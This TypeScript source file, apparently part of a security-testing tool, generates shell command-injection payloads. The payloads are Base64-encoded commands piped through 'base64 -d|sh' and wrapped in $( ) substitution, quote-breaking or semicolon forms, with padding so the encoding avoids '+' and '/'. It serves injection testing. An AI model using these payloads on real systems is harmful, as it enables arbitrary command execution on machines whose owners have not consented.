import { shellWord } from '@emmental/model';
import type { Form, Target } from '../subject.ts';

/**
 * Returns attacks on the command line of a shell. A substitution runs in plain words and in double quotes; in single quotes,
 * the text must first close the quotes. A POSIX shell has no other cases. The command is in Base64, whose letters have no
 * special meaning in paths, addresses and forms, which the text may be part of before.
 */
export function shellForms({ token, program, script }: Target): readonly Form[] {
  const words = ['NODE_OPTIONS=', 'PYTHONPATH=', shellWord(program), shellWord(script)];
  const run = `$(echo ${lettersOnly(words)}|base64 -d|sh)`;
  return [
    { says: 'in plain words or double quotes', text: () => `${token}${run}` },
    { says: 'in single quotes', text: () => `${token}'${run}'` },
    { says: 'as a command of its own', text: () => `${token};${run.slice(2, -1)};` },
  ];
}

/** Returns words as Base64 without `+` and `/`. More spaces between the words shift the bits until neither letter occurs. */
function lettersOnly([first = '', ...words]: readonly string[]): string {
  let text = first;
  for (const word of words) {
    const spaced = [' ', '  ', '   '].map((space) => `${text}${space}${word}`);
    text =
      spaced.find((candidate) => !/[+/]/.test(Buffer.from(candidate).toString('base64'))) ?? spaced[0] ?? '';
  }
  return Buffer.from(text).toString('base64');
}
